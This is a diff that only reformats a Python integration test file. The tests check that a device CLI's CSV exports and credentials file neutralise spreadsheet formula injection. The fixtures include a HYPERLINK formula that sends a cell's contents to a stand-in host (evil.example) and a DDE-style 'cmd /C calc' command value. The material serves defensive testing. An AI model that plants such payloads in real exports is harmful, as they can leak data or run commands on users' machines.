@@ -22,10 +22,22 @@ from tests.integration.cli.test_labels import decode_pdf
 # refused in names and tags (control characters), so they cannot reach an export; the
 # unit tests of the CSV writer cover them.
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"open me")'
-NAMES = {"F-1": HYPERLINK, "F-2": "+cmd|' /C calc'!A0", "F-3": "-2+3", "F-4": "@SUM(1+1)",
-         "F-5": "plain", "-A1": "negative serial"}
-TAGS = {"F-1": "@SUM(1+1)", "F-2": "=1+1", "F-3": "+441234567", "F-4": "-2+3", "F-5": "O'Brien",
-        "-A1": "ok"}
+NAMES = {
+    "F-1": HYPERLINK,
+    "F-2": "+cmd|' /C calc'!A0",
+    "F-3": "-2+3",
+    "F-4": "@SUM(1+1)",
+    "F-5": "plain",
+    "-A1": "negative serial",
+}
+TAGS = {
+    "F-1": "@SUM(1+1)",
+    "F-2": "=1+1",
+    "F-3": "+441234567",
+    "F-4": "-2+3",
+    "F-5": "O'Brien",
+    "-A1": "ok",
+}
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -48,9 +60,15 @@ def assert_nothing_runs(rows: list[list[str]]) -> None:
 
 
 def test_the_device_export_neutralises_formulas_and_reimports_unchanged(
-        cli: Cli, tmp_path: Path) -> None:
-    cli("devices", "import", str(source_file(tmp_path / "in.csv")), "--credentials-out",
-        str(tmp_path / "creds.csv"))
+    cli: Cli, tmp_path: Path
+) -> None:
+    cli(
+        "devices",
+        "import",
+        str(source_file(tmp_path / "in.csv")),
+        "--credentials-out",
+        str(tmp_path / "creds.csv"),
+    )
     exported = tmp_path / "export.csv"
     cli("devices", "export", "--out", str(exported))
     rows = cells_of(exported)
@@ -66,7 +84,7 @@ def test_the_device_export_neutralises_formulas_and_reimports_unchanged(
     assert "'-A1" in by_serial  # the serial too
     text = exported.read_text(encoding="utf-8")
     assert '"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""open me"")"' in text  # quoted
-    assert "\"'@SUM(1+1)\"" in text
+    assert '"\'@SUM(1+1)"' in text
 
     other = Cli(f"sqlite:///{tmp_path / 'other.db'}")
     other("db", "upgrade")
@@ -74,15 +92,24 @@ def test_the_device_export_neutralises_formulas_and_reimports_unchanged(
     theirs = other.json("devices", "list", "--all")
     assert isinstance(theirs, dict)
     assert {d["serial"]: (d["name"], d["tags"]["site"]) for d in theirs["items"]} == {
-        serial: (NAMES[serial], TAGS[serial]) for serial in NAMES}
+        serial: (NAMES[serial], TAGS[serial]) for serial in NAMES
+    }
 
 
 def test_the_credentials_file_neutralises_serials_and_keeps_secrets_exact(
-        cli: Cli, tmp_path: Path) -> None:
+    cli: Cli, tmp_path: Path
+) -> None:
     cli("profiles", "create", "coded", "--claim-proof", "code")
     creds = tmp_path / "creds.csv"
-    cli("devices", "import", str(source_file(tmp_path / "in.csv")), "--credentials-out",
-        str(creds), "--profile", "coded")
+    cli(
+        "devices",
+        "import",
+        str(source_file(tmp_path / "in.csv")),
+        "--credentials-out",
+        str(creds),
+        "--profile",
+        "coded",
+    )
     rows = cells_of(creds)
     assert_nothing_runs(rows)
     assert {r[0] for r in rows[1:]} == {"F-1", "F-2", "F-3", "F-4", "F-5", "'-A1"}
@@ -106,7 +133,8 @@ def test_the_credentials_file_neutralises_serials_and_keeps_secrets_exact(
 
 
 def test_the_demo_credentials_file_holds_nothing_a_spreadsheet_runs(
-        database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("PROVISIOND_DATA_DIR", str(tmp_path))
     Cli(database_url)("demo", "--no-serve")
     rows = cells_of(tmp_path / "demo-credentials.csv")
